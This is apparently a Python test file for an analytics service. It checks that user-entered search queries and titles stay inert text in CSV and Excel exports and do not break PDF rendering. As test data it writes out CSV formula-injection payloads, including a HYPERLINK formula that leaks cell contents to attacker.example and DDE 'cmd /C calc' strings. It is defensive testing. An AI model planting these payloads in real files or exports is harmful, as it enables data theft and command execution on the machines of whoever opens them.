"""Attacks on the analytics reports through text that users put into them, on each operational DB.

Any signed-in user can track a search event (`POST /api/v1/analytics/events/track`) and an author can
title content; both reach the reports. The tracked query is read back from the lake's buffer as the
API stored it and put into the serving tables as the marts would (lower case, whitespace collapsed:
`stg_events__events`); the reports are then built and rendered by `domain.analytics.reports`, as the
report job does, and read back with each format's own reader.

- Formula injection: a query or title starting with `=`, `+`, `-`, `@`, tab or CR is a live formula
  when the CSV or the workbook is opened in a spreadsheet. No workbook cell may be a formula, such
  text stays a plain string there, and in the CSV every such text starts with a single quote; numbers,
  negative ones included, stay numbers.
- Math text: one `$...$` that matplotlib's mathtext cannot parse used to fail the whole PDF (and, as
  the job rendered the formats in one go, every other file of that report). The PDF renders and shows
  the text as typed.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import UTC, datetime, timedelta

import openpyxl
import pypdfium2 as pdfium
from litestar.testing import AsyncTestClient
from sqlalchemy.orm import Session, sessionmaker

from domain.analytics.lake import read_lines
from domain.analytics.reports.document import ReportDocument
from domain.analytics.reports.formats import render
from domain.analytics.reports.sections import build_document
from domain.db import sync_engine
from domain.schema import ContentMetricsDaily, SearchAnalyticsDaily
from domain.settings import Settings
from tests.serving.conftest import bearer

TRACK = "/api/v1/analytics/events/track"
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
MATH = r"$\frac{1}{0}$ and $x^$"
CONTROL = "bell\x07 in a query"  # a control character that a workbook cannot hold
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULA_TITLE = '=HYPERLINK("http://attacker.example/","Open")'
MATH_TITLE = r"Costs $\frac{1}{0}$ and $5 $x^$"


def _search_event(query: str, at: datetime) -> dict:
    return {
        "type": "search",
        "event_id": str(uuid.uuid4()),
        "occurred_at": at.isoformat(),
        "query": query,
        "result_count": 0,
        "language": "en",
    }


def _tracked_queries(settings: Settings) -> list[str]:
    folder = settings.data_dir / "analytics" / "buffer"
    return [line.e.query for path in sorted(folder.glob("*.jsonl")) for line in read_lines(path)]


def _as_the_marts_store_it(query: str) -> str:
    return " ".join(query.lower().split())


async def _seed_through_the_api(
    anonymous: AsyncTestClient, new_user, settings: Settings, db_sessions: sessionmaker[Session]
) -> None:
    _, viewer = new_user(f"viewer-{uuid.uuid4().hex[:6]}", ["viewer"])
    _, author = new_user(f"author-{uuid.uuid4().hex[:6]}", ["author"])
    yesterday = datetime.now(UTC).date() - timedelta(days=1)
    sent = [*FORMULAS, MATH, CONTROL]
    at = datetime.now(UTC) - timedelta(minutes=5)
    res = await anonymous.post(
        TRACK, json={"events": [_search_event(q, at) for q in sent]}, headers=bearer(viewer)
    )
    assert res.status_code == 202, res.text
    assert res.json()["accepted"] == len(sent)
    tracked = _tracked_queries(settings)
    assert sorted(tracked) == sorted(sent)  # stored as sent

    content_ids = []
    for title in (FORMULA_TITLE, MATH_TITLE):
        res = await anonymous.post(
            "/api/v1/content", json={"type": "article", "title": {"en": title}}, headers=bearer(author)
        )
        assert res.status_code == 201, res.text
        content_ids.append(uuid.UUID(res.json()["id"]))

    with db_sessions.begin() as session:
        for n, query in enumerate(tracked):
            session.add(
                SearchAnalyticsDaily(
                    query_text=_as_the_marts_store_it(query),
                    date=yesterday,
                    language="en",
                    user_type="registered",
                    search_count=10 + n,
                    result_count=0.0,
                    click_count=0,
                    click_through_rate=0.0,
                    average_position=None,
                    zero_result_count=10 + n,
                    zero_result_rate=1.0,
                )
            )
        for n, content_id in enumerate(content_ids):
            session.add(
                ContentMetricsDaily(
                    content_id=content_id,
                    date=yesterday,
                    view_count=50 + n,
                    unique_viewers=5,
                    average_watch_time=30,
                    completion_rate=0.5,
                    engagement_score=10.0,
                    share_count=0,
                    favorite_count=0,
                    comment_count=0,
                )
            )


def _document(url: str, language: str = "en") -> ReportDocument:
    today = datetime.now(UTC).date()
    engine = sync_engine(url)
    try:
        with engine.connect() as conn:
            return build_document(conn, "custom", today - timedelta(days=7), today, language)
    finally:
        engine.dispose()


async def test_user_text_is_never_a_formula_in_csv_or_excel(
    anonymous: AsyncTestClient, new_user, settings: Settings, migrated_url: str, db_sessions
) -> None:
    await _seed_through_the_api(anonymous, new_user, settings, db_sessions)
    doc = _document(migrated_url)
    injected = {_as_the_marts_store_it(q) for q in FORMULAS} | {FORMULA_TITLE}
    cells = {value for table in doc.tables for row in table.rows for value in row}
    assert injected <= cells  # the attack reaches the report

    workbook = openpyxl.load_workbook(io.BytesIO(render(doc, "xlsx")))
    found = set()
    numbers = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate)
                    found.add(cell.value)
                numbers += isinstance(cell.value, int | float)
    assert injected <= found  # kept as typed, as text
    assert numbers > 10  # the figures are still numbers

    rows = list(csv.reader(io.StringIO(render(doc, "csv").decode("utf-8-sig"))))
    texts = [value for row in rows for value in row]
    assert not [value for value in texts if value.startswith(TRIGGERS)]
    assert {"'" + text for text in injected} <= set(texts)
    assert "10" in texts and "1.0" in texts  # counts and rates are written as they were

    # JSON is data, not a spreadsheet: the text as typed.
    payload = json.loads(render(doc, "json"))
    assert injected <= {v for table in payload["tables"] for row in table["rows"] for v in row}


async def test_dollar_signs_in_queries_and_titles_do_not_break_the_pdf(
    anonymous: AsyncTestClient, new_user, settings: Settings, migrated_url: str, db_sessions
) -> None:
    await _seed_through_the_api(anonymous, new_user, settings, db_sessions)
    for language in ("en", "ar"):
        doc = _document(migrated_url, language)
        files = {fmt: render(doc, fmt) for fmt in ("csv", "xlsx", "pdf", "json")}
        pdf = pdfium.PdfDocument(files["pdf"])
        try:
            text = "\n".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
        finally:
            pdf.close()
        assert MATH in text, language  # the literal text, not typeset math
        assert "$5 $x^$" in text
        workbook = openpyxl.load_workbook(io.BytesIO(files["xlsx"]))
        values = {c.value for s in workbook.worksheets for row in s.iter_rows() for c in row}
        assert MATH in values and "bell in a query" in values  # the control character is dropped
